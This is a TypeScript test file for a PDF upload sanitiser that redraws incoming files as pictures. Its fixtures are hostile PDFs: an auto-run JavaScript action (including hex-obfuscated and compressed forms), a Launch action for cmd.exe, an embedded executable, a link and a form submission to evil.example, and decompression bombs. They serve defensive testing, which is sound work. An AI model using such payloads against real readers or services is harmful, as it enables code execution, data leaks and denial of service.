// PDFs of people, through HTTP: what is kept is a fresh file of pictures that looks like what was sent and holds
// nothing else of it; what cannot be drawn is refused in words, and the shop goes on meanwhile.
import { readFileSync } from 'node:fs'
import { deflateSync } from 'node:zlib'
import { PDFiumLibrary } from '@hyzyla/pdfium'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { redrawPdf } from './redraw-pdf.ts'
import { crowd } from '../../../../test/crowd.ts'
import { mustSend, sendFile } from '../../../../test/uploading.ts'
import { openWorld, type Person, type World } from '../../../../test/world.ts'

let world: World
let anna: Person
beforeAll(async () => {
  world = await openWorld({
    settings: { uploadsPerHour: 1000, uploadsUntaken: 1000, uploadsUntakenMegabytes: 1000, uploadPdfSeconds: 60 },
  })
  anna = await world.person('anna')
})
afterAll(() => world.close())

const stream = (body: Buffer | string, head = ''): Buffer => {
  const bytes = Buffer.from(body)
  return Buffer.concat([Buffer.from(`<<${head}/Length ${bytes.length}>>\nstream\n`), bytes, Buffer.from('\nendstream')])
}
interface Wish {
  /** what is drawn on each page */
  content?: Buffer | string
  pages?: number
  /** laid into the catalogue, each page, the trailer */
  catalog?: string
  page?: string
  trailer?: string
  /** objects from number 10 on */
  more?: (Buffer | string)[]
  size?: string
}
/** A red field of 100 × 50 points at the left, and a line of text above it. */
const look = '0.8 0 0 rg 40 60 100 50 re f 0 0 0 rg BT /F 18 Tf 40 140 Td (Licence of Anna 2026) Tj ET'
function paper(wish: Wish = {}): Buffer {
  const { content = look, pages = 1, catalog = '', page = '', trailer = '', more = [], size = '300 200' } = wish
  const numbers = Array.from({ length: pages }, (_, at) => 100 + at)
  const body = Buffer.isBuffer(content) ? content : stream(content)
  const objects: [number, Buffer | string][] = [
    [1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`],
    [2, `<</Type/Pages/Count ${pages}/Kids[${numbers.map((n) => `${n} 0 R`).join(' ')}]>>`],
    [3, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'],
    [4, body],
    ...more.map((object, at): [number, Buffer | string] => [10 + at, object]),
    ...numbers.map((n): [number, string] => [
      n,
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 ${size}]/Contents 4 0 R/Resources<</Font<</F 3 0 R>>` +
        `/XObject<</I 10 0 R>>>>${page}>>`,
    ]),
  ]
  const parts = objects.flatMap(([n, object]) => [Buffer.from(`${n} 0 obj\n`), Buffer.from(object), `\nendobj\n`])
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...parts.map((part) => Buffer.from(part)),
    Buffer.from(`trailer<</Root 1 0 R${trailer}>>\n%%EOF\n`),
  ])
}

const keptOf = async (uploadId: string): Promise<Buffer> => {
  const headers = { authorization: `Bearer ${anna.token}`, 'user-type': '1' }
  const reply = await fetch(`${world.url}/api/v2/token/file/${uploadId}`, { headers })
  expect(reply.headers.get('content-type')).toBe('application/pdf')
  return Buffer.from(await reply.arrayBuffer())
}
const sendPaper = (bytes: Buffer, who: Person = anna) => sendFile(world, who, 'licence', bytes, 'application/pdf')
const kept = async (bytes: Buffer): Promise<Buffer> =>
  keptOf((await mustSend(world, anna, 'licence', bytes, 'application/pdf')).uploadId)
/** The pages of a PDF as grey pixels. */
async function drawn(bytes: Buffer): Promise<{ grey: Buffer; width: number; height: number }[]> {
  const library = await PDFiumLibrary.init()
  const document = await library.loadDocument(bytes)
  const pages = []
  for (const page of document.pages()) {
    const { data, width, height } = await page.render({ scale: 1.5, render: 'bitmap' })
    const grey = await sharp(data, { raw: { width, height, channels: 4 } })
      .removeAlpha()
      .greyscale()
      .raw()
      .toBuffer()
    pages.push({ grey, width, height })
  }
  document.destroy()
  return pages
}
/** How far two pages are apart on the average, in parts of 255, and how much of the first is not white. */
async function compared(before: Buffer, after: Buffer): Promise<{ apart: number; inked: number; pages: number }> {
  const [first, second] = await Promise.all([drawn(before), drawn(after)])
  expect(second.map(({ width, height }) => [width, height])).toEqual(first.map(({ width, height }) => [width, height]))
  const [a, b] = [first, second].map((pages) => Buffer.concat(pages.map(({ grey }) => grey)))
  let [apart, inked] = [0, 0]
  for (const [at, value] of a!.entries()) {
    apart += Math.abs(value - b![at]!)
    if (value < 200) inked++
  }
  return { apart: apart / a!.length, inked: inked / a!.length, pages: first.length }
}

const names = new Set(
  (
    'Type Catalog Pages Count Kids Page Parent MediaBox Contents Resources XObject P Subtype Image Width Height ' +
    'ColorSpace DeviceRGB BitsPerComponent Filter DCTDecode Length Size Root'
  ).split(' '),
)
/** Names of a kept PDF that a file of pictures does not need; of its objects, not of its pixels. */
const strange = (bytes: Buffer): string[] => {
  const outside = bytes
    .toString('latin1')
    .replaceAll(/\/DCTDecode\/Length \d+>>\nstream\n[^]*?\nendstream/g, '/DCTDecode')
  return [...outside.matchAll(/\/([A-Za-z#0-9]+)/g)].map(([, name]) => name!).filter((name) => !names.has(name))
}
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const packed = deflateSync(Buffer.from(`12 0 ${script}`))
const hidden: [string, Wish][] = [
  ['a script at opening', { catalog: `/OpenAction ${script}` }],
  ['a script, spelled in hex', { catalog: '/Open#41ction<</S/J#61vaScript/JS(app.alert\\(1\\))>>' }],
  [
    'a script in packed objects',
    { catalog: '/OpenAction 12 0 R', more: [stream(packed, '/Type/ObjStm/N 1/First 5/Filter/FlateDecode')] },
  ],
  ['a script on a page', { page: `/AA<</O ${script}>>` }],
  ['a program that starts', { catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }],
  [
    'an attached file',
    {
      catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)10 0 R]>>>>',
      more: ['<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>', stream('MZ', '/Type/EmbeddedFile')],
    },
  ],
  [
    'a link',
    {
      page:
        '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/Border[0 0 0]' +
        '/A<</S/URI/URI(https://evil.example/)>>>>]',
    },
  ],
  [
    'a form that is sent',
    {
      catalog: '/AcroForm<</Fields[10 0 R]>>',
      page: '/Annots[10 0 R]',
      more: ['<</Type/Annot/Subtype/Widget/FT/Btn/T(x)/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example/)>>>>'],
    },
  ],
  ['words about who made it', { trailer: '/Info 10 0 R', more: ['<</Author(Anna)/Producer(Word)>>'] }],
]
test.each(hidden)('of %s nothing is kept, of the page everything', async (_what, wish) => {
  const sent = paper(wish)
  const fresh = await kept(sent)
  expect(strange(fresh)).toEqual([])
  expect(fresh.includes('evil.example') || fresh.includes('Anna')).toBe(false)
  const { apart, inked } = await compared(sent, fresh)
  expect(apart).toBeLessThan(2)
  expect(inked).toBeGreaterThan(0.05)
})
test('the check of names finds what a kept file may not have', () => {
  expect(strange(paper({ catalog: `/OpenAction ${script}` }))).toContain('JavaScript')
})

test('pages keep their number, order and size; Chinese is drawn', async () => {
  const several = await compared(paper({ pages: 3 }), await kept(paper({ pages: 3 })))
  expect(several).toMatchObject({ pages: 3 })
  expect(several.apart).toBeLessThan(2)
  const chinese = readFileSync(new URL('../../../../test/papers/chinese.pdf', import.meta.url))
  const { apart, inked } = await compared(chinese, await kept(chinese))
  expect(apart).toBeLessThan(2)
  expect(inked).toBeGreaterThan(0.08)
})
test('the red field lies where it was sent', async () => {
  const fresh = await kept(paper())
  const head = /\/DCTDecode\/Length (\d+)>>\nstream\n/.exec(fresh.toString('latin1'))!
  const begin = head.index + head[0].length
  const { data, info } = await sharp(fresh.subarray(begin, begin + Number(head[1])))
    .raw()
    .toBuffer({ resolveWithObject: true })
  const at = (x: number, y: number): number[] => {
    const place = (Math.round((y / 200) * info.height) * info.width + Math.round((x / 300) * info.width)) * 3
    return [...data.subarray(place, place + 3)].map((v) => Math.round(v / 51))
  }
  // from the top, as pictures count
  expect([at(90, 115), at(20, 115), at(90, 180)]).toEqual([
    [4, 0, 0],
    [5, 5, 5],
    [5, 5, 5],
  ])
})

test('a picture of 144 million pixels is drawn small, in the memory that every file has', async () => {
  const head = '/Type/XObject/Subtype/Image/Width 12000/Height 12000/ColorSpace/DeviceGray/BitsPerComponent 8'
  const black = stream(deflateSync(Buffer.alloc(144_000_000)), `${head}/Filter/FlateDecode`)
  const [page] = await drawn(await kept(paper({ content: 'q 300 0 0 200 0 0 cm /I Do Q', more: [black] })))
  expect(page!.grey.reduce((most, value) => Math.max(most, value), 0)).toBeLessThan(30)
})

let packedSpaces: Buffer | undefined
const spaces = (): Buffer => (packedSpaces ??= deflateSync(Buffer.alloc(400_000_000, ' ')))
const refused: [string, () => Buffer, string][] = [
  [
    'locked by a password',
    () =>
      paper({
        trailer: `/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'41'.repeat(32)}>/U<${'42'.repeat(32)}>>>`,
      }),
    'uploadUndrawable',
  ],
  ['of 31 pages', () => paper({ pages: 31 }), 'uploadTooManyPages'],
  ['without pages', () => paper({ pages: 0 }), 'uploadUndrawable'],
  ['without an end', () => paper().subarray(0, 40), 'uploadUndrawable'],
  ['of noise', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000, 7)]), 'uploadUndrawable'],
  ['whose page is a line', () => paper({ size: '300 0.0001' }), 'uploadUndrawable'],
  ['that unpacks to 400 MB', () => paper({ content: stream(spaces(), '/Filter/FlateDecode') }), 'uploadUndrawable'],
  [
    'that unpacks twice to 400 MB',
    () => paper({ content: stream(deflateSync(spaces()), '/Filter[/FlateDecode/FlateDecode]') }),
    'uploadUndrawable',
  ],
]
test.each(refused)('a PDF %s is refused in words', { timeout: 90_000 }, async (_what, make, reason) => {
  const bytes = make()
  const reply = await sendPaper(bytes)
  expect(reply.data).toMatchObject({ reason })
  expect(reply.message).not.toMatch(/\{\{|^upload/)
})
test('what takes too long is ended, and the next is drawn', { timeout: 90_000 }, async () => {
  const slow = deflateSync(Buffer.from('0 0 m 200 200 l 10 100 50 150 20 190 c S\n'.repeat(200_000)))
  const limits = { pages: 30, seconds: 2, side: 2400, bytes: 40_000_000 }
  const long = redrawPdf(paper({ content: stream(slow, '/Filter/FlateDecode') }), limits)
  const next = redrawPdf(paper(), { ...limits, seconds: 60 })
  await expect(long).rejects.toMatchObject({ reason: 'uploadUndrawable' })
  expect((await next).subarray(0, 5).toString()).toBe('%PDF-')
})

test('twenty at once are drawn one by one, and others are answered all the while', { timeout: 90_000 }, async () => {
  const people = await crowd(world, 20)
  let [done, answered] = [false, 0]
  const sending = Promise.all(people.map((who) => sendPaper(paper({ pages: 4 }), who))).finally(() => (done = true))
  while (!done) {
    expect((await fetch(`${world.url}/livez`)).status).toBe(200)
    answered++
  }
  expect((await sending).map(({ status }) => status)).toEqual(people.map(() => 200))
  expect(answered).toBeGreaterThan(50)
})
